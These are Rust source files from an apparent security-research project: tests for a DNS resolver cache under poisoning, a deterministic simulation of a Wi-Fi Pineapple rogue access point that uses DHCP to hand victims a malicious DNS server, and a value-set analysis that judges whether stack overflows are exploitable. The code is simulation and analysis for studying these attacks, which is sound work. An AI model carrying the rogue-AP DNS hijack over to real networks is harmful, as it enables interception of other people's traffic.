        // authoritative servers are never consulted.
        for id in [2u16, 3, 4] {
            let resp = r
                .handle_query(&mut net, &a_query(id, "telemetry.vendor.example"))
                .expect("served from poison");
            let m = Message::decode(&resp).unwrap();
            assert_eq!(m.id(), id);
            assert_eq!(
                m.answers()[0].to_string(),
                "telemetry.vendor.example 600 IN A 10.13.37.99"
            );
        }
        assert_eq!(r.stats().upstream_queries, 0);
        assert_eq!(r.cache().stats().poisonings, 1);
        assert_eq!(r.cache().stats().hits, 3);
    }

    #[test]
    fn ttl_expiry_boundaries_are_exact() {
        let mut cache = ResolverCache::new(8);
        let q = a_query(1, "host.example");
        let resp = {
            let mut m = Message::response_to(&Message::decode(&q).unwrap());
            m.push_answer(Record::new(
                Name::parse("host.example").unwrap(),
                1,
                RecordData::A(Ipv4Addr::new(1, 2, 3, 4)),
            ));
            m.encode().unwrap()
        };
        cache.insert(1000, &q, &resp, 500);
        let mut out = Vec::new();
        assert!(
            cache.lookup_into(1499, &q, &mut out),
            "one tick before expiry"
        );
        assert!(!cache.lookup_into(1500, &q, &mut out), "exactly at expiry");
        assert!(
            !cache.lookup_into(1501, &q, &mut out),
            "one tick after expiry"
        );
        // Batched expiry actually reclaims the entry.
        cache.advance(1500);
        assert!(cache.is_empty());
        assert_eq!(cache.stats().expirations, 1);
    }

    #[test]
    fn capacity_evicts_soonest_expiring_first() {
        let mut cache = ResolverCache::new(2);
        let mk = |name: &str| {
            let q = a_query(1, name);
            let mut m = Message::response_to(&Message::decode(&q).unwrap());
            m.push_answer(Record::new(
                Name::parse(name).unwrap(),
                60,
                RecordData::A(Ipv4Addr::new(1, 2, 3, 4)),
            ));
            (q, m.encode().unwrap())
        };
        let (qa, ra) = mk("a.example");
        let (qb, rb) = mk("b.example");
        let (qc, rc) = mk("c.example");
        cache.insert(0, &qa, &ra, 100); // expires first
        cache.insert(0, &qb, &rb, 1000);
        cache.insert(0, &qc, &rc, 500); // evicts a
        let mut out = Vec::new();
        assert!(
            !cache.lookup_into(1, &qa, &mut out),
            "soonest-expiring evicted"
        );
        assert!(cache.lookup_into(1, &qb, &mut out));
        assert!(cache.lookup_into(1, &qc, &mut out));
        assert_eq!(cache.stats().evictions, 1);
        assert_eq!(cache.len(), 2);
    }

    #[test]
    fn warm_hit_path_reuses_the_output_buffer() {
        let (mut net, _) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        let q = a_query(1, "telemetry.vendor.example");
        let mut out = Vec::new();
        assert!(r.handle_query_into(&mut net, &q, &mut out));
        assert!(r.handle_query_into(&mut net, &q, &mut out), "warm hit");
        let ptr = out.as_ptr();
        let cap = out.capacity();
        for _ in 0..64 {
            assert!(r.handle_query_into(&mut net, &q, &mut out));
        }
        assert_eq!(out.as_ptr(), ptr, "no reallocation across warm hits");
        assert_eq!(out.capacity(), cap);
    }
}
