//! Simulated wireless network for the remote (Wi-Fi Pineapple)
//! experiments.
//!
//! Models exactly what the paper's §III-D setup needs:
//!
//! * a [`RadioEnvironment`] of [`AccessPoint`]s with SSIDs and signal
//!   strengths; stations associate to the **strongest** AP broadcasting
//!   their preferred SSID — which is the Pineapple's entire trick
//!   ("the Wi-Fi Pineapple is able to broadcast a stronger signal than
//!   the legitimate access point, causing our targeted machine to switch
//!   its connection");
//! * per-AP DHCP that hands out an address, gateway and — the attack
//!   vector — a **DNS server** address;
//! * datagram delivery to registered [`UdpService`]s (the benign
//!   resolver, the malicious DNS server);
//! * [`WifiPineapple`]: a rogue AP cloning a trusted SSID at higher
//!   signal, whose DHCP points clients at the attacker's resolver.
//!
//! Everything is synchronous and deterministic: a "datagram" is a
//! request/response call, which is all DNS-over-UDP needs.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod addr;
mod ap;
mod env;
mod pineapple;
pub mod resolver;
pub mod scheduler;
mod station;

pub use addr::{HwAddr, Ssid};
pub use ap::{AccessPoint, ApConfig, DhcpConfig, Lease};
pub use env::{share, ApId, NetEvent, RadioEnvironment, ScanResult, SharedService, UdpService};
pub use pineapple::WifiPineapple;
pub use resolver::{
    example_internet, CacheStats, Internet, RecursiveResolver, ResolverCache, ResolverStats,
    TICKS_PER_SEC,
};
pub use scheduler::{link_latency_us, Scheduler, SimTime, JITTER_SPAN_US, MIN_LATENCY_US};
pub use station::{Association, Station};
