//! Link-layer addresses and SSIDs.

use std::fmt;
use std::sync::Arc;

/// A 48-bit hardware (MAC) address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct HwAddr([u8; 6]);

impl HwAddr {
    /// Creates an address from raw octets.
    pub fn new(octets: [u8; 6]) -> Self {
        HwAddr(octets)
    }

    /// A locally-administered address derived from a small id — handy
    /// for deterministic test fixtures.
    pub fn local(id: u16) -> Self {
        let [hi, lo] = id.to_be_bytes();
        HwAddr([0x02, 0x00, 0x00, 0x00, hi, lo])
    }

    /// The raw octets.
    pub fn octets(&self) -> [u8; 6] {
        self.0
    }
}

impl fmt::Display for HwAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let o = self.0;
        write!(
            f,
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            o[0], o[1], o[2], o[3], o[4], o[5]
        )
    }
}

/// A wireless network name. Matching is exact and case-sensitive, as in
/// 802.11.
///
/// Backed by a shared string so the many places that carry an SSID copy
/// — beacons, scan results, events, Pineapple clones — bump a refcount
/// instead of reallocating the name.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Ssid(Arc<str>);

impl Ssid {
    /// Creates an SSID.
    pub fn new(name: impl Into<Arc<str>>) -> Self {
        Ssid(name.into())
    }

    /// The SSID text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Ssid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl From<&str> for Ssid {
    fn from(s: &str) -> Self {
        Ssid::new(s)
    }
}

impl From<String> for Ssid {
    fn from(s: String) -> Self {
        Ssid::new(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats() {
        assert_eq!(HwAddr::local(0x1234).to_string(), "02:00:00:00:12:34");
        assert_eq!(Ssid::from("HomeWifi").to_string(), "HomeWifi");
    }

    #[test]
    fn local_ids_distinct() {
        assert_ne!(HwAddr::local(1), HwAddr::local(2));
    }

    #[test]
    fn ssid_matching_case_sensitive() {
        assert_ne!(Ssid::from("Home"), Ssid::from("home"));
    }
}
