//! Deterministic discrete-event scheduler.
//!
//! The recursive-resolution simulation needs packets to arrive in a
//! realistic (latency-ordered) sequence, and the fleet harness needs
//! that sequence to be *reproducible*: the same seed must replay the
//! same trace byte for byte at any worker count. Both come from two
//! rules:
//!
//! 1. **Pure latency draws.** Every link delay is a pure function of
//!    `(seed, link, event index)` — no RNG state threads through the
//!    run, so events can be scheduled from any thread in any order and
//!    still draw the same delays. See [`link_latency_us`].
//! 2. **Total event order.** The queue is a binary heap ordered by
//!    `(due time, sequence number)`. The sequence number breaks ties
//!    between events due on the same tick by insertion order, so the
//!    pop order is a total order independent of heap internals.
//!
//! Time is a virtual clock in microseconds; nothing here reads wall
//! clocks, so a simulation is a deterministic function of its inputs.

use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// One tick of simulated time, in microseconds.
pub type SimTime = u64;

/// SplitMix64 finalizer: a cheap, well-mixed 64-bit permutation. The
/// same mixing the fleet runner's `derive_seed` uses, duplicated here
/// because `cml-netsim` sits below `cml-core` in the crate graph.
#[inline]
pub(crate) fn mix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Smallest latency any link ever exhibits, in microseconds.
pub const MIN_LATENCY_US: SimTime = 200;

/// Span of the jitter above [`MIN_LATENCY_US`], in microseconds.
pub const JITTER_SPAN_US: SimTime = 1_800;

/// The per-hop latency draw: a pure function of `(seed, link, event
/// index)` in `MIN_LATENCY_US..MIN_LATENCY_US + JITTER_SPAN_US`.
///
/// Because the draw depends only on its arguments, two simulations with
/// the same seed see identical delays regardless of scheduling order,
/// worker count, or how many *other* links exist — the property the
/// determinism suites pin.
#[inline]
pub fn link_latency_us(seed: u64, link: u64, event_index: u64) -> SimTime {
    let h = mix64(seed ^ mix64(link) ^ mix64(event_index.wrapping_mul(0xD1B5_4A32_D192_ED03)));
    MIN_LATENCY_US + h % JITTER_SPAN_US
}

/// An event waiting in the queue: ordered by `(due, seq)` only, so the
/// payload type needs no ordering of its own.
#[derive(Debug)]
struct Pending<E> {
    due: SimTime,
    seq: u64,
    event: E,
}

impl<E> PartialEq for Pending<E> {
    fn eq(&self, other: &Self) -> bool {
        self.due == other.due && self.seq == other.seq
    }
}

impl<E> Eq for Pending<E> {}

impl<E> PartialOrd for Pending<E> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl<E> Ord for Pending<E> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.due, self.seq).cmp(&(other.due, other.seq))
    }
}

/// A discrete-event queue with a virtual clock.
///
/// [`schedule_in`](Self::schedule_in) enqueues an event at a relative
/// delay; [`pop`](Self::pop) removes the earliest-due event and
/// advances the clock to its due time. Ties on the due tick pop in
/// insertion order, making the dispatch sequence a total order — the
/// foundation of byte-identical traces.
#[derive(Debug)]
pub struct Scheduler<E> {
    heap: BinaryHeap<Reverse<Pending<E>>>,
    now: SimTime,
    seq: u64,
}

impl<E> Default for Scheduler<E> {
    fn default() -> Self {
        Scheduler::new()
    }
}

impl<E> Scheduler<E> {
    /// An empty scheduler at tick zero.
    pub fn new() -> Self {
        Scheduler {
            heap: BinaryHeap::new(),
            now: 0,
            seq: 0,
        }
    }

    /// The virtual clock: the due time of the last popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Events scheduled so far (also the next sequence number, which
    /// callers use as the `event_index` of a latency draw).
    pub fn events_scheduled(&self) -> u64 {
        self.seq
    }

    /// Events currently queued.
    pub fn len(&self) -> usize {
        self.heap.len()
    }

    /// Whether the queue is drained.
    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }

    /// Enqueues `event` to fire `delay` microseconds from now. Returns
    /// the event's sequence number.
    pub fn schedule_in(&mut self, delay: SimTime, event: E) -> u64 {
        self.schedule_at(self.now.saturating_add(delay), event)
    }

    /// Enqueues `event` at an absolute due time (clamped to the present
    /// so time never runs backwards). Returns the event's sequence
    /// number.
    pub fn schedule_at(&mut self, due: SimTime, event: E) -> u64 {
        let seq = self.seq;
        self.seq += 1;
        self.heap.push(Reverse(Pending {
            due: due.max(self.now),
            seq,
            event,
        }));
        seq
    }

    /// Removes the earliest-due event, advances the clock to its due
    /// time, and returns `(due, event)`; `None` when drained.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        let Reverse(p) = self.heap.pop()?;
        self.now = p.due;
        Some((p.due, p.event))
    }

    /// Advances the clock to `t` without dispatching anything (used to
    /// model idle time between externally-timed arrivals). Never moves
    /// the clock backwards.
    pub fn advance_to(&mut self, t: SimTime) {
        self.now = self.now.max(t);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pops_in_time_order_with_fifo_ties() {
        let mut s = Scheduler::new();
        s.schedule_at(50, "b-at-50");
        s.schedule_at(10, "first-at-10");
        s.schedule_at(10, "second-at-10");
        s.schedule_at(30, "a-at-30");
        let order: Vec<_> = std::iter::from_fn(|| s.pop()).collect();
        assert_eq!(
            order,
            vec![
                (10, "first-at-10"),
                (10, "second-at-10"),
                (30, "a-at-30"),
                (50, "b-at-50"),
            ]
        );
        assert_eq!(s.now(), 50);
    }

    #[test]
    fn clock_advances_and_relative_delays_stack() {
        let mut s = Scheduler::new();
        s.schedule_in(5, 'a');
        assert_eq!(s.pop(), Some((5, 'a')));
        s.schedule_in(7, 'b');
        assert_eq!(s.pop(), Some((12, 'b')));
        // Scheduling in the past clamps to the present.
        s.schedule_at(3, 'c');
        assert_eq!(s.pop(), Some((12, 'c')));
    }

    #[test]
    fn latency_draw_is_pure_and_bounded() {
        for seed in [0u64, 1, 0xDEAD_BEEF] {
            for link in [0u64, 7, u64::MAX] {
                for idx in [0u64, 1, 1_000_000] {
                    let a = link_latency_us(seed, link, idx);
                    let b = link_latency_us(seed, link, idx);
                    assert_eq!(a, b, "pure function of its arguments");
                    assert!((MIN_LATENCY_US..MIN_LATENCY_US + JITTER_SPAN_US).contains(&a));
                }
            }
        }
    }

    #[test]
    fn latency_draw_varies_by_link_and_index() {
        let base = link_latency_us(42, 1, 0);
        let draws: Vec<_> = (0..16)
            .map(|i| link_latency_us(42, 1, i))
            .chain((1..16).map(|l| link_latency_us(42, l, 0)))
            .collect();
        assert!(
            draws.iter().any(|&d| d != base),
            "jitter must actually jitter: {draws:?}"
        );
    }

    #[test]
    fn sequence_numbers_are_dense() {
        let mut s = Scheduler::new();
        assert_eq!(s.schedule_in(0, ()), 0);
        assert_eq!(s.schedule_in(0, ()), 1);
        assert_eq!(s.events_scheduled(), 2);
    }
}
