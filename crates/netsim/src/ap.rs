//! Access points and their DHCP service.

use std::collections::HashMap;
use std::net::Ipv4Addr;

use crate::addr::{HwAddr, Ssid};

/// DHCP parameters an AP hands to clients. `dns` is the knob the whole
/// §III-D attack turns: the Pineapple's DHCP points it at the malicious
/// resolver.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DhcpConfig {
    /// First three octets define the /24; hosts are allocated from .10.
    pub subnet: [u8; 3],
    /// Default gateway (usually the AP itself).
    pub gateway: Ipv4Addr,
    /// DNS server to advertise.
    pub dns: Ipv4Addr,
}

impl DhcpConfig {
    /// Conventional config: gateway at `.1`, DNS as given.
    pub fn new(subnet: [u8; 3], dns: Ipv4Addr) -> Self {
        DhcpConfig {
            subnet,
            gateway: Ipv4Addr::new(subnet[0], subnet[1], subnet[2], 1),
            dns,
        }
    }
}

/// A granted DHCP lease.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Lease {
    /// Client address.
    pub ip: Ipv4Addr,
    /// Default gateway.
    pub gateway: Ipv4Addr,
    /// Advertised DNS server — what the victim's proxy will trust.
    pub dns: Ipv4Addr,
}

/// Static configuration of an access point.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ApConfig {
    /// Broadcast network name.
    pub ssid: Ssid,
    /// The AP's own hardware address.
    pub bssid: HwAddr,
    /// Received signal strength clients observe, in dBm (closer to 0 is
    /// stronger).
    pub signal_dbm: i32,
    /// DHCP parameters for associated clients.
    pub dhcp: DhcpConfig,
}

/// A running access point: configuration plus its DHCP lease table.
#[derive(Debug, Clone)]
pub struct AccessPoint {
    config: ApConfig,
    leases: HashMap<HwAddr, Lease>,
    next_host: u8,
}

impl AccessPoint {
    /// Brings up an AP.
    pub fn new(config: ApConfig) -> Self {
        AccessPoint {
            config,
            leases: HashMap::new(),
            next_host: 10,
        }
    }

    /// The AP's configuration.
    pub fn config(&self) -> &ApConfig {
        &self.config
    }

    /// Broadcast SSID.
    pub fn ssid(&self) -> &Ssid {
        &self.config.ssid
    }

    /// Signal strength in dBm.
    pub fn signal_dbm(&self) -> i32 {
        self.config.signal_dbm
    }

    /// Adjusts transmit power (the Pineapple "boosts" above the
    /// legitimate AP).
    pub fn set_signal_dbm(&mut self, dbm: i32) {
        self.config.signal_dbm = dbm;
    }

    /// Repoints the DHCP-advertised DNS server. Only future leases see
    /// the new address; clients already holding a lease keep the old
    /// one until they re-associate, as with a real DHCP renewal.
    pub fn set_dns(&mut self, dns: Ipv4Addr) {
        self.config.dhcp.dns = dns;
    }

    /// Grants (or renews) a DHCP lease for a client.
    pub fn lease(&mut self, mac: HwAddr) -> Lease {
        if let Some(existing) = self.leases.get(&mac) {
            return *existing;
        }
        let [a, b, c] = self.config.dhcp.subnet;
        let lease = Lease {
            ip: Ipv4Addr::new(a, b, c, self.next_host),
            gateway: self.config.dhcp.gateway,
            dns: self.config.dhcp.dns,
        };
        self.next_host = self.next_host.wrapping_add(1).max(10);
        self.leases.insert(mac, lease);
        lease
    }

    /// Number of associated clients.
    pub fn client_count(&self) -> usize {
        self.leases.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ap() -> AccessPoint {
        AccessPoint::new(ApConfig {
            ssid: "Lab".into(),
            bssid: HwAddr::local(1),
            signal_dbm: -55,
            dhcp: DhcpConfig::new(
                [192, 168, 1, 0][..3].try_into().unwrap(),
                Ipv4Addr::new(192, 168, 1, 53),
            ),
        })
    }

    #[test]
    fn leases_are_stable_per_client() {
        let mut ap = ap();
        let l1 = ap.lease(HwAddr::local(7));
        let l2 = ap.lease(HwAddr::local(7));
        assert_eq!(l1, l2);
        assert_eq!(l1.ip, Ipv4Addr::new(192, 168, 1, 10));
        assert_eq!(l1.dns, Ipv4Addr::new(192, 168, 1, 53));
        assert_eq!(l1.gateway, Ipv4Addr::new(192, 168, 1, 1));
    }

    #[test]
    fn distinct_clients_distinct_ips() {
        let mut ap = ap();
        let a = ap.lease(HwAddr::local(1)).ip;
        let b = ap.lease(HwAddr::local(2)).ip;
        assert_ne!(a, b);
        assert_eq!(ap.client_count(), 2);
    }
}
