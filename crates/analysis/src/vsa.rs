//! Interprocedural value-set analysis (VSA) with a strided-interval
//! domain.
//!
//! Where the taint pass answers *"does attacker data reach this
//! store?"*, VSA answers *"which stack bytes can the store touch?"* —
//! the question an exploitability verdict actually needs. Every
//! register holds a [`ValueSet`]: a memory-region tag ([`Region`])
//! paired with a [`StridedInterval`] `stride[lo, hi]` describing the
//! numeric values it may take, in the style of Balakrishnan & Reps'
//! a-loc analysis.
//!
//! Stack offsets are entry-SP relative (the same coordinate system as
//! [`crate::frames`]): the stack pointer enters every function as
//! `StackRel 0[0,0]`, prologue arithmetic moves it exactly, and a
//! pointer derived from it (`lea edi,[ebp-0x40C]`, `mov r3,sp`) stays
//! `StackRel` with a known offset. A copy loop advances the pointer by
//! its stride each iteration; at the loop head the interval is widened
//! (`hi → +∞`, strides folded by gcd), so the fixpoint converges and
//! the widened set `1[-1040, +∞]` *is* the write extent.
//!
//! Loop bounds are then narrowed back: a loop exit that compares an
//! untainted counter with known start (`0`, stride 1) against an exact
//! constant `k` caps the trip count at `k − lo`, so the patched 1.35
//! body's `cmp counter, 0x400` exit bounds its copy to 1024 bytes —
//! which never reaches the saved return address — while the vulnerable
//! body's only exit tests a tainted byte and the write stays unbounded.

use std::collections::{BTreeSet, HashMap};

use cml_image::{Addr, Arch, Image};
use cml_vm::{arm, riscv, x86, X86Reg};

use crate::cfg::{BasicBlock, Cfg, Function, Op, Terminator};

/// Joins at the same block input before widening kicks in.
const WIDEN_AFTER: u32 = 4;

/// A strided interval `stride[lo, hi]`: all values `lo + n·stride`
/// within the bounds. `stride == 0` means a singleton.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StridedInterval {
    /// Step between representable values (0 for a singleton).
    pub stride: u32,
    /// Lowest representable value (`i64::MIN` = unbounded below).
    pub lo: i64,
    /// Highest representable value (`i64::MAX` = unbounded above).
    pub hi: i64,
}

impl StridedInterval {
    /// The singleton `0[v, v]`.
    pub fn exact(v: i64) -> Self {
        StridedInterval {
            stride: 0,
            lo: v,
            hi: v,
        }
    }

    /// The full interval — no information.
    pub fn top() -> Self {
        StridedInterval {
            stride: 1,
            lo: i64::MIN,
            hi: i64::MAX,
        }
    }

    /// `Some(v)` when the interval is the singleton `v`.
    pub fn as_exact(&self) -> Option<i64> {
        (self.lo == self.hi).then_some(self.lo)
    }

    /// Whether the upper bound is unknown.
    pub fn unbounded_above(&self) -> bool {
        self.hi == i64::MAX
    }

    /// Shifts the interval by a constant.
    #[allow(clippy::should_implement_trait)]
    pub fn add(self, k: i64) -> Self {
        StridedInterval {
            stride: self.stride,
            lo: self.lo.saturating_add(k),
            hi: self.hi.saturating_add(k),
        }
    }

    /// Least upper bound: hull of the bounds, strides (and the gap
    /// between anchors) folded by gcd.
    pub fn join(self, other: Self) -> Self {
        if self == other {
            return self;
        }
        let gap = self.lo.abs_diff(other.lo);
        let folded = fold_stride(self.stride as u64, other.stride as u64);
        let stride = fold_stride(folded as u64, gap);
        StridedInterval {
            stride,
            lo: self.lo.min(other.lo),
            hi: self.hi.max(other.hi),
        }
    }

    /// Widening: any bound that moved jumps straight to ±∞ so loop
    /// fixpoints terminate.
    pub fn widen(self, next: Self) -> Self {
        let joined = self.join(next);
        StridedInterval {
            stride: joined.stride,
            lo: if joined.lo < self.lo {
                i64::MIN
            } else {
                self.lo
            },
            hi: if joined.hi > self.hi {
                i64::MAX
            } else {
                self.hi
            },
        }
    }
}

fn fold_stride(a: u64, b: u64) -> u32 {
    fn gcd(mut a: u64, mut b: u64) -> u64 {
        while b != 0 {
            let t = a % b;
            a = b;
            b = t;
        }
        a
    }
    gcd(a, b).min(u32::MAX as u64) as u32
}

/// Provenance tag of an abstract value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Region {
    /// A plain number (or a value of unknown provenance — the domain's
    /// top collapses here with a top interval).
    Const,
    /// An address inside the loaded image (position-dependent until
    /// relocation; "PIE-relative" in a real build).
    PieRel,
    /// An offset from the function's entry stack pointer.
    StackRel,
    /// Attacker-controlled data, or a pointer into it.
    Tainted,
}

/// One abstract value: a region tag plus a strided interval.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ValueSet {
    /// Which memory region the value lives in / points into.
    pub region: Region,
    /// The numeric values it may take within that region.
    pub si: StridedInterval,
}

impl ValueSet {
    fn unknown() -> Self {
        ValueSet {
            region: Region::Const,
            si: StridedInterval::top(),
        }
    }

    fn constant(v: i64) -> Self {
        ValueSet {
            region: Region::Const,
            si: StridedInterval::exact(v),
        }
    }

    fn stack(off: i64) -> Self {
        ValueSet {
            region: Region::StackRel,
            si: StridedInterval::exact(off),
        }
    }

    fn tainted() -> Self {
        ValueSet {
            region: Region::Tainted,
            si: StridedInterval::top(),
        }
    }

    /// A tainted byte: attacker-chosen but 8-bit.
    fn tainted_byte() -> Self {
        ValueSet {
            region: Region::Tainted,
            si: StridedInterval {
                stride: 1,
                lo: 0,
                hi: 0xFF,
            },
        }
    }

    fn add(self, k: i64) -> Self {
        ValueSet {
            region: self.region,
            si: self.si.add(k),
        }
    }

    fn merge(self, other: Self, widen: bool) -> Self {
        let region = if self.region == other.region {
            self.region
        } else if self.region == Region::Tainted || other.region == Region::Tainted {
            Region::Tainted
        } else {
            Region::Const
        };
        let si = if region == self.region && region == other.region {
            if widen {
                self.si.widen(other.si)
            } else {
                self.si.join(other.si)
            }
        } else {
            StridedInterval::top()
        };
        ValueSet { region, si }
    }

    fn is_tainted(self) -> bool {
        self.region == Region::Tainted
    }
}

#[derive(Debug, Clone, PartialEq)]
struct State {
    regs: [ValueSet; 32],
    flags: (ValueSet, ValueSet),
}

impl State {
    fn entry(arch: Arch, is_source: bool) -> State {
        let mut regs = [ValueSet::unknown(); 32];
        match arch {
            Arch::X86 => regs[X86Reg::Esp.bits() as usize] = ValueSet::stack(0),
            Arch::Armv7 => {
                regs[13] = ValueSet::stack(0);
                if is_source {
                    regs[0] = ValueSet::tainted();
                }
            }
            Arch::Riscv => {
                regs[0] = ValueSet::constant(0); // x0 is hardwired
                regs[2] = ValueSet::stack(0);
                if is_source {
                    regs[10] = ValueSet::tainted(); // a0
                }
            }
        }
        State {
            regs,
            flags: (ValueSet::unknown(), ValueSet::unknown()),
        }
    }

    fn merge_with(&mut self, other: &State, widen: bool) -> bool {
        let mut changed = false;
        for i in 0..32 {
            let m = self.regs[i].merge(other.regs[i], widen);
            if m != self.regs[i] {
                self.regs[i] = m;
                changed = true;
            }
        }
        let f = (
            self.flags.0.merge(other.flags.0, widen),
            self.flags.1.merge(other.flags.1, widen),
        );
        if f != self.flags {
            self.flags = f;
            changed = true;
        }
        changed
    }
}

/// One store through a stack-derived pointer, with its statically
/// derived write geometry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StackWrite {
    /// Address of the store instruction.
    pub store_addr: Addr,
    /// Entry-SP-relative offset of the first byte written.
    pub start: i64,
    /// Step between consecutive writes (1 for a byte-copy loop).
    pub stride: u32,
    /// Whether the stored value is attacker-derived.
    pub tainted: bool,
    /// Whether the store sits inside a loop.
    pub in_loop: bool,
    /// Maximum bytes the store can touch: `Some(n)` when every
    /// enclosing loop is bounded (or the store is straight-line),
    /// `None` when some enclosing loop has no untainted bound — a
    /// statically unbounded write.
    pub extent: Option<u32>,
}

impl StackWrite {
    /// Highest entry-SP-relative offset this write can reach, when
    /// bounded.
    pub fn end(&self) -> Option<i64> {
        self.extent.map(|e| self.start + e as i64 - 1)
    }
}

/// Value-set results for one function.
#[derive(Debug, Clone)]
pub struct FnVsa {
    /// Function name.
    pub function: String,
    /// Entry-SP-relative offset of the saved return address, when the
    /// prologue stores one (x86: always 0; ARM: the pushed `lr` slot).
    pub ret_slot: Option<i64>,
    /// Stores through stack-derived pointers.
    pub writes: Vec<StackWrite>,
}

impl FnVsa {
    /// The tainted stack writes — the ones an exploit can steer.
    pub fn tainted_writes(&self) -> impl Iterator<Item = &StackWrite> {
        self.writes.iter().filter(|w| w.tainted)
    }
}

/// Runs VSA over every function. `sources` is the effective taint
/// source set (see [`crate::taint::effective_sources`]); in those
/// functions the incoming packet pointer is modeled as `Tainted`.
pub fn vsa_pass(cfg: &Cfg, image: &Image, sources: &BTreeSet<String>) -> Vec<FnVsa> {
    cfg.functions
        .iter()
        .map(|f| vsa_function(cfg.arch, image, f, sources.contains(&f.name)))
        .collect()
}

/// A raw store event observed on the post-fixpoint pass.
struct RawStore {
    addr: Addr,
    width: u32,
    target: ValueSet,
    value: ValueSet,
}

#[derive(Default)]
struct Collected {
    stores: Vec<RawStore>,
    ret_slot: Option<i64>,
}

fn vsa_function(arch: Arch, image: &Image, f: &Function, is_source: bool) -> FnVsa {
    let mut out = FnVsa {
        function: f.name.clone(),
        ret_slot: match arch {
            // The caller's `call` pushed the return address at entry SP.
            Arch::X86 => Some(0),
            // Link-register ISAs: found when the prologue spills it.
            Arch::Armv7 | Arch::Riscv => None,
        },
        writes: Vec::new(),
    };
    if f.blocks.is_empty() {
        return out;
    }
    let idx: HashMap<Addr, usize> = f
        .blocks
        .iter()
        .enumerate()
        .map(|(i, b)| (b.start, i))
        .collect();
    let n = f.blocks.len();

    // Fixpoint over block inputs, widening after repeated joins.
    let mut inputs: Vec<Option<State>> = vec![None; n];
    let mut joins: Vec<u32> = vec![0; n];
    inputs[0] = Some(State::entry(arch, is_source));
    loop {
        let mut changed = false;
        for i in 0..n {
            let Some(mut st) = inputs[i].clone() else {
                continue;
            };
            walk_block(&mut st, &f.blocks[i], image, is_source, None);
            for succ in &f.blocks[i].succs {
                let Some(&j) = idx.get(succ) else { continue };
                match &mut inputs[j] {
                    slot @ None => {
                        *slot = Some(st.clone());
                        changed = true;
                    }
                    Some(existing) => {
                        joins[j] += 1;
                        changed |= existing.merge_with(&st, joins[j] > WIDEN_AFTER);
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }

    // Final pass: collect stores, the ARM ret slot and exit flags.
    let mut collected = Collected::default();
    let mut exit_flags: Vec<Option<(ValueSet, ValueSet)>> = vec![None; n];
    for i in 0..n {
        let Some(mut st) = inputs[i].clone() else {
            continue;
        };
        walk_block(
            &mut st,
            &f.blocks[i],
            image,
            is_source,
            Some(&mut collected),
        );
        exit_flags[i] = Some(st.flags);
    }
    if collected.ret_slot.is_some() {
        out.ret_slot = collected.ret_slot;
    }

    // Natural-loop approximation (back edge b→h bounds [h, b.end)),
    // then per-loop trip bounds from counter-vs-constant exits.
    let loops: Vec<(Addr, Addr)> = f
        .blocks
        .iter()
        .flat_map(|b| {
            b.succs
                .iter()
                .filter(move |&&s| s <= b.start)
                .map(move |&s| (s, b.end))
        })
        .collect();
    let bounds: Vec<Option<u64>> = loops
        .iter()
        .map(|&(head, end)| loop_trip_bound(f, &exit_flags, head, end))
        .collect();

    for s in &collected.stores {
        if s.target.region != Region::StackRel {
            continue;
        }
        let stride = s.target.si.stride;
        let enclosing: Vec<usize> = loops
            .iter()
            .enumerate()
            .filter(|(_, &(h, e))| s.addr >= h && s.addr < e)
            .map(|(i, _)| i)
            .collect();
        let extent = if enclosing.is_empty() {
            // Straight-line store: the interval hull plus access width.
            if s.target.si.unbounded_above() {
                None
            } else {
                Some((s.target.si.lo.abs_diff(s.target.si.hi) as u32).saturating_add(s.width))
            }
        } else {
            // One write of `stride` bytes per trip of the tightest
            // bounded enclosing loop; unbounded if none is bounded.
            enclosing
                .iter()
                .filter_map(|&i| bounds[i])
                .min()
                .map(|trips| {
                    (trips.saturating_mul(stride.max(1) as u64)).min(u32::MAX as u64) as u32
                })
        };
        out.writes.push(StackWrite {
            store_addr: s.addr,
            start: s.target.si.lo,
            stride,
            tainted: s.value.is_tainted(),
            in_loop: !enclosing.is_empty(),
            extent,
        });
    }
    out
}

/// The best trip-count bound for the loop `[head, end)`: the smallest
/// `k − lo` over exits comparing an untainted counter with known lower
/// bound `lo` against an exact untainted constant `k`.
fn loop_trip_bound(
    f: &Function,
    exit_flags: &[Option<(ValueSet, ValueSet)>],
    head: Addr,
    end: Addr,
) -> Option<u64> {
    let in_range = |a: Addr| a >= head && a < end;
    let mut best: Option<u64> = None;
    for (i, b) in f.blocks.iter().enumerate() {
        if !in_range(b.start) {
            continue;
        }
        let Terminator::Branch { taken, fall } = b.term else {
            continue;
        };
        if in_range(taken) && in_range(fall) {
            continue; // not an exit
        }
